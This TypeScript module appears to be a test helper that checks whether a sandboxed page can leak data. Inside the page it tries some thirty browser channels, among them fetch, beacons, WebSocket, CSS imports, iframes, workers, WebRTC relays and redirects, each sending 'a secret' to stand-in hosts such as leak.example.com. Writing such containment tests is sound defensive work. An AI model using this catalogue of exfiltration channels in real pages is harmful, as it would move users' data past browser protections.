/** Where the attempts go: a name, an address of its own, and a relay. None of them exists. */
export const outside = {
  name: 'leak.example.com',
  address: '203.0.113.5',
  relay: 'stun:203.0.113.7:3478',
} as const;

/** What became of one attempt: the page's own view of it, for the report. */
export type Attempted = Readonly<Record<string, string>>;

/**
 * Every way a script inside the page could tell somebody something, tried one after the other. It runs in the page, so it
 * names nothing outside itself. Resolves when all were tried and have had a second.
 */
// oxlint-disable unicorn/consistent-function-scoping -- it is sent to the page, and has to be whole
export async function tryEveryWayOut({ name, address, relay }: typeof outside): Promise<Attempted> {
  const outcome: Record<string, string> = {};
  const wait = (milliseconds: number) => new Promise((done) => setTimeout(done, milliseconds));
  const attempt = async (way: string, work: () => unknown): Promise<void> => {
    try {
      const result = await Promise.race([Promise.resolve(work()), wait(1_500).then(() => 'no answer')]);
      outcome[way] = typeof result === 'string' ? result : 'tried';
    } catch (error) {
      outcome[way] = error instanceof Error ? error.name : 'refused';
    }
  };
  const element = <Name extends keyof HTMLElementTagNameMap>(
    tag: Name,
    properties: Readonly<Record<string, string>>,
  ): HTMLElementTagNameMap[Name] => {
    const made = document.createElement(tag);
    for (const [property, value] of Object.entries(properties)) made.setAttribute(property, value);
    document.body.append(made);
    return made;
  };
  const loaded = (made: HTMLElement) =>
    new Promise<string>((done) => {
      made.addEventListener('load', () => done('loaded'));
      made.addEventListener('error', () => done('error'));
    });
  let number = 0;
  // A name of its own for each, so that no answer is remembered from the one before.
  const byName = (scheme = 'https') => `${scheme}://way${(number += 1)}.${name}/?what=a-secret`;
  const byAddress = (scheme = 'https') => `${scheme}://${address}/?what=a-secret-${(number += 1)}`;

  await attempt('fetch', async () => {
    await Promise.allSettled([
      fetch(byName(), { mode: 'no-cors' }),
      fetch(byAddress('http'), { mode: 'no-cors' }),
    ]);
  });
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('POST', byAddress());
    return new Promise<string>((done) => {
      request.addEventListener('loadend', () => done(`status ${request.status}`));
      request.send('a secret');
    });
  });
  await attempt('WebSocket', () => {
    const socket = new WebSocket(byAddress('wss'));
    return new Promise<string>((done) => socket.addEventListener('error', () => done('error')));
  });
  await attempt('WebTransport', async () => {
    const Transport = Reflect.get(window, 'WebTransport') as
      | undefined
      | (new (url: string) => { ready: Promise<void> });
    if (!Transport) return 'not there';
    await new Transport(`https://${address}:443/?what=a-secret`).ready;
    return 'connected';
  });
  await attempt('EventSource', () => {
    const source = new EventSource(byAddress());
    return new Promise<string>((done) => source.addEventListener('error', () => done('error')));
  });
  await attempt('sendBeacon', () => String(navigator.sendBeacon(byAddress(), 'a secret')));
  await attempt('image', () => loaded(element('img', { src: byAddress() })));
  for (const rel of [
    'prefetch',
    'dns-prefetch',
    'preconnect',
    'preload',
    'prerender',
    'modulepreload',
    'icon',
  ])
    await attempt(`link ${rel}`, async () => {
      element('link', { rel, href: byName(), as: 'script' });
      element('link', { rel, href: byAddress(), as: 'image' });
      await wait(100);
    });
  await attempt('stylesheet', () => loaded(element('link', { rel: 'stylesheet', href: byAddress() })));
  await attempt('style sheet import', () => {
    const style = document.createElement('style');
    style.textContent = `@import url("${byAddress()}"); body { background: url("${byName()}"); }`;
    document.head.append(style);
  });
  await attempt('style property', async () => {
    const made = element('div', {});
    made.style.backgroundImage = `url("${byAddress()}")`;
    await wait(100);
  });
  await attempt('script', () => {
    const script = document.createElement('script');
    script.src = byAddress();
    const done = loaded(script);
    document.body.append(script);
    return done;
  });
  await attempt('font', () => new FontFace('stolen', `url("${byAddress()}")`).load().then(() => 'loaded'));
  await attempt('audio and video', async () => {
    element('video', { src: byAddress(), autoplay: '', poster: byName() });
    element('audio', { src: byAddress(), autoplay: '' });
    await wait(100);
  });
  await attempt('object and embed', async () => {
    element('embed', { src: byAddress() });
    element('object', { data: byAddress() });
    await wait(100);
  });
  await attempt('iframe', async () => {
    element('iframe', { src: byAddress() });
    element('iframe', { src: byName() });
    await wait(300);
  });
  await attempt('iframe with its own document', async () => {
    element('iframe', {
      srcdoc: `<img src="${byAddress()}"><meta http-equiv="refresh" content="0;url=${byName()}">`,
    });
    await wait(300);
  });
  await attempt('form', async () => {
    const form = element('form', { action: byAddress(), method: 'post', target: '_blank' });
    form.submit();
    await wait(100);
  });
  await attempt('window.open', () => String(window.open(byAddress())));
  await attempt('ping', async () => {
    const link = element('a', { href: '#', ping: byAddress() });
    link.click();
    await wait(100);
  });
  await attempt('import()', () => import(/* @vite-ignore */ byAddress()).then(() => 'loaded'));
  await attempt('worker', async () => {
    const source = `fetch(${JSON.stringify(byAddress())}); importScripts(${JSON.stringify(byName())});`;
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    await new Promise((done) => worker.addEventListener('error', done));
    return 'error';
  });
  await attempt('service worker', () =>
    navigator.serviceWorker.register(byAddress()).then(() => 'registered'),
  );
  await attempt('service worker of a blob', () =>
    navigator.serviceWorker.register(URL.createObjectURL(new Blob(['']))).then(() => 'registered'),
  );
  await attempt('WebRTC', async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: relay }] });
    connection.createDataChannel('a secret');
    await connection.setLocalDescription(await connection.createOffer());
    await wait(1_000);
    return 'gathered';
  });
  await attempt('WebRTC of a frame', async () => {
    const frame = element('iframe', {});
    const within = frame.contentWindow as unknown as { RTCPeerConnection?: typeof RTCPeerConnection } | null;
    if (!within?.RTCPeerConnection) return 'not there';
    const connection = new within.RTCPeerConnection({ iceServers: [{ urls: relay }] });
    connection.createDataChannel('a secret');
    await connection.setLocalDescription(await connection.createOffer());
    await wait(1_000);
    return 'gathered';
  });
  await attempt('meta refresh', async () => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${byAddress()}`;
    document.head.append(meta);
    await wait(500);
  });
  await attempt('location', async () => {
    window.location.href = byAddress();
    await wait(500);
  });
  await wait(1_000);
  return outcome;
}
